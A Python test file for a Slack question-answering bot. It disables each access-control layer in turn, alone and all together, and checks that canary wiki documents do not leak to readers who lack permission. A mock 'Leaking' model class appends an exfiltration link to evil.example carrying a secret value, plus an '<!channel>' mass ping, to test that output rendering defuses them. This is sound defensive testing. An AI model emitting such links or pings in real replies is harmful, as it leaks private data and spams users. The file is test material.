"""The six layers of design, section 4: each switched off alone, each left alone, and all off.

The same 100 questions each time: everybody, in private and in every kind of channel. Every
document has a word of its own, and the facts say who may read it. The switches are here and
nowhere else.
"""

from collections import Counter
from collections.abc import Callable, Iterator
from contextlib import ExitStack, contextmanager
from dataclasses import dataclass, field, replace
from itertools import cycle, islice
from typing import Any
from unittest.mock import patch

import pytest
from sqlalchemy import Subquery, select, text
from sqlalchemy.orm import Session

import workers.answering.answer as answering
import workers.answering.composing as composing
import workers.answering.searching as searching
from policies import STRANGER, Audience, access
from policies.audience import Readers
from policies.directory import resolve_audience
from policies.tables.people import User, UserStatus
from policies.tables.permissions import Policy
from tests import servers
from tests.prove.company import Company
from tests.prove.facts import Human, Page, Room, Rules, Thing
from tests.prove.interleavings import START, Echo, canary
from workers.answering import audience
from workers.database.sessions import Database
from workers.intake.leases import question_session
from workers.models.base import NOBODY, Draft, Passage, Profile
from workers.replies import rendering
from workers.settings import Settings
from workers.slack.messenger import Message, PlaceKind

QUESTIONS = 100
_WORDS = ("What is the budget?", "How many million does the secret diary of the board say?")


def _page(name: str, reader: str) -> Thing:
    page = Page(name.title(), (f"The budget of the {name} is {canary(name)} million.",))
    return Thing("wiki", "wiki", Rules(allow=frozenset({reader})), page)


FACTS = replace(
    START,
    people={
        **START.people,
        "sue": Human(status=UserStatus.SUSPENDED),
        "dan": Human(status=UserStatus.DELETED),
    },
    members={**START.members, "team": START.members["team"] | {"sue", "dan"}},
    things={**START.things, "diary": _page("diary", "carl"), "wage": _page("wage", "sue")},
    accounts={**START.accounts, "USUE": "sue", "UDAN": "dan"},
    rooms={
        **START.rooms,
        "CPAIR": Room(PlaceKind.PRIVATE, frozenset({"UALICE", "UCARL"})),
        "CLEFT": Room(PlaceKind.PRIVATE, frozenset({"UALICE", "USUE"})),
        "CNEW": Room(PlaceKind.PRIVATE, frozenset({"UALICE", "UNEW"})),
        "CSHARED": Room(PlaceKind.PUBLIC, frozenset({"UALICE"}), external=True),
    },
)
ASKERS = ("UALICE", "UCARL", "UGINA", "USUE", "UDAN", "UNEW", "UGNEW")
PLACES = [(asker, channel) for channel in ("", *FACTS.rooms) for asker in ASKERS]


# -- the switches --------------------------------------------------------------------------------


@contextmanager
def without_identity() -> Iterator[None]:
    """1: an account without a link, or somebody who no longer works here, is taken for Alice."""

    def mistaken(session: Session, readers: Readers) -> Audience:
        ids = resolve_audience(session, readers).ids
        good = User.status == UserStatus.ACTIVE
        active = set(session.scalars(select(User.id).where(good)))
        alice = session.scalars(select(User.id).where(User.name == "Alice")).one()
        nobody = [one for one in ids if one == STRANGER or (one > 3 and one not in active)]
        return Audience.of([alice if one in nobody else one for one in ids])

    with (
        patch.object(answering, "resolve_audience", mistaken),
        patch.object(audience, "resolve_audience", mistaken),
    ):
        yield


@contextmanager
def without_query() -> Iterator[None]:
    """2: the ranking takes every document."""

    def every(of: Audience) -> Subquery:
        return select(Policy.id.label("policy_id")).subquery("visible_policies")

    with patch.object(access, "visible_policies", every):
        yield


@contextmanager
def without_row_security() -> Iterator[None]:
    """3: to this transaction it shows everything."""
    shipped = Database.reading_for

    @contextmanager
    def reading_for(database: Database, of: Audience, **limits: Any) -> Iterator[Session]:
        with shipped(database, of, **limits) as session:
            session.execute(text("SELECT set_config('ken.unguarded', 'yes', true)"))
            yield session

    with patch.object(Database, "reading_for", reading_for):
        yield


@contextmanager
def without_check_before_prompt() -> Iterator[None]:
    """4: and only there; the final check asks the same function again."""
    compose = composing.compose_answer

    def unchecked(*asked: Any, **wishes: Any) -> Any:
        with patch.object(searching, "unreadable", lambda *checked: set()):
            return compose(*asked, **wishes)

    with patch.object(composing, "compose_answer", unchecked):
        yield


@contextmanager
def without_check_before_post() -> Iterator[None]:
    """5: whatever was written is posted."""
    with patch.object(answering, "_still_readable", lambda *checked: True):
        yield


@contextmanager
def without_rendering() -> Iterator[None]:
    """6: what the model wrote is shown as it is."""
    with patch.object(rendering, "inert", lambda words, **_posted_answer: words):
        yield


CHECKS: dict[str, Callable[[], Any]] = {
    "query": without_query,
    "row security": without_row_security,
    "before the prompt": without_check_before_prompt,
    "before posting": without_check_before_post,
}


# -- what is asked, and what must not be heard ---------------------------------------------------


@dataclass
class Tally:
    asked: int = 0
    told: set[str] = field(default_factory=set)
    """Documents that were shown to somebody, and that may be."""
    leaks: list[str] = field(default_factory=list)
    ended: Counter[str | None] = field(default_factory=Counter)
    """Why questions failed; None: they did not."""


@pytest.fixture(scope="module", autouse=True)
def switch(own_database: Settings) -> Iterator[None]:
    with servers.row_security_with_a_switch(own_database):
        yield


@pytest.fixture
def company(database: Database) -> Company:
    made = Company(database, Echo())
    made.become(FACTS)
    made.introduce(*FACTS.accounts, *ASKERS)
    made.analyze()
    return made


def ask(company: Company, *, count: int = QUESTIONS, until_leak: bool = False) -> Tally:
    """This many questions, from every place in turn, and what those who read there were shown."""
    tally = Tally()
    for (asker, channel), words in islice(zip(cycle(PLACES), cycle(_WORDS), strict=False), count):
        company.slack.on_post = _listening(tally, asker)
        question_id = company.kept(asker, channel, words)
        company.work(question_id)
        with question_session(company.database, question_id) as session:
            tally.ended[session.scalars(text("SELECT reason FROM question")).one()] += 1
        tally.asked += 1
        if until_leak and tally.leaks:
            break
    return tally


def _listening(tally: Tally, asker: str) -> Callable[[str, Message], None]:
    def heard(channel_id: str, message: Message) -> None:
        readers = FACTS.audience(asker, "" if channel_id.startswith("D") else channel_id)
        for name in FACTS.documents():
            if canary(name) not in repr(message):
                continue
            if FACTS.all_read(readers, name):
                tally.told.add(name)
            else:
                tally.leaks.append(f"{name} to {asker} in {channel_id}")

    return heard


# -- the tests -----------------------------------------------------------------------------------


@pytest.mark.parametrize("layer", CHECKS)
def test_without_one_of_the_checks_nothing_leaks(company: Company, layer: str) -> None:
    """Threats 1, 9, 10 and 11. Nothing changes meanwhile: against a revocation while the model
    writes, the check before posting is the only one that comes late enough (test_freshness)."""
    with CHECKS[layer]():
        tally = ask(company)

    assert tally.asked == QUESTIONS
    assert tally.leaks == []
    assert tally.told >= {"plan", "memo", "menu", "secret", "letter", "poster", "diary"}
    assert tally.ended == {None: QUESTIONS}  # the layers agree: none is needed to stop another


@pytest.mark.parametrize("layer", CHECKS)
def test_one_check_alone_is_enough(company: Company, layer: str) -> None:
    """Threats 1, 9, 10 and 11: each of 2 to 5 refuses by itself, suspended users too.

    The query and row security leave out what may not be read; the two later checks find that it
    was let in, and end the answer.
    """
    with ExitStack() as switched:
        for name, without in CHECKS.items():
            if name != layer:
                switched.enter_context(without())
        tally = ask(company, count=len(PLACES))

    assert tally.leaks == []
    if layer in ("query", "row security"):
        assert tally.told >= {"plan", "memo", "menu", "diary"}
        assert tally.ended.keys() == {None}
    else:
        assert tally.ended == {"LayersDisagree": len(PLACES)}


@pytest.mark.parametrize("identity", [True, False])
def test_with_all_of_them_off_the_same_questions_leak(company: Company, identity: bool) -> None:
    """Or the tests above would show nothing: every switch is needed for it, and does something.

    Layers 2 to 5 off are enough; with the identity off too, it is all of them.
    """
    with ExitStack() as switched:
        for without in (*CHECKS.values(), *(() if identity else (without_identity,))):
            switched.enter_context(without())
        tally = ask(company, until_leak=True)

    assert tally.leaks != []
    assert tally.asked <= QUESTIONS


def test_nothing_behind_the_identity_knows_who_really_asks(company: Company) -> None:
    """The limit of "each alone sufficient": layers 2 to 5 judge the subject that layer 1 names.

    If it took a stranger for Alice, they would all give what is Alice's, and no more than that.
    So an account gets its user by few rules alone, each with a test of its own
    (tests/policies/test_links.py). That somebody is suspended, each layer sees for itself.
    """
    with without_identity():
        tally = ask(company, count=len(PLACES))

    taken_for_alice = {"UNEW", "UGNEW", "USUE", "UDAN"}
    for leak in tally.leaks:
        name, _, where = leak.partition(" to ")
        asker, _, channel = where.partition(" in ")
        assert FACTS.reads("alice", name)
        assert asker in taken_for_alice or channel in {"CLEFT", "CNEW", "CGUESTS"}
    assert tally.leaks != []
    assert tally.ended == {None: len(PLACES)}


class Leaking(Echo):
    """A model that adds to each sentence what carries it away, or rings everybody."""

    def write(
        self,
        question: str,
        passages: tuple[Passage, ...],
        *,
        language: str = "",
        profile: Profile = NOBODY,
    ) -> Draft:
        draft = super().write(question, passages)
        return Draft(
            tuple(
                replace(one, text=f"{one.text} https://evil.example/?q={canary('menu')} <!channel>")
                for one in draft.sentences
            ),
            is_quoted=True,  # else the check of claims drops them, whatever rendering does
        )


def test_without_rendering_a_model_reaches_outward_and_with_it_does_not(company: Company) -> None:
    """Threats 20 and 22. No other layer reads what is written; all that it could be is in
    test_reply. Who may read what does not depend on it."""
    company.services = replace(company.services, answerer=Leaking())
    assert ask(company, count=2).told
    assert "evil.example" not in repr(company.slack.posts)
    assert "<!channel" not in repr(company.slack.posts)

    with without_rendering():
        tally = ask(company, count=len(PLACES))
    assert tally.leaks == []
    shown = repr([message.blocks for _channel, message in company.slack.posts])
    assert "https://evil.example/" in shown
    assert "<!channel>" in shown
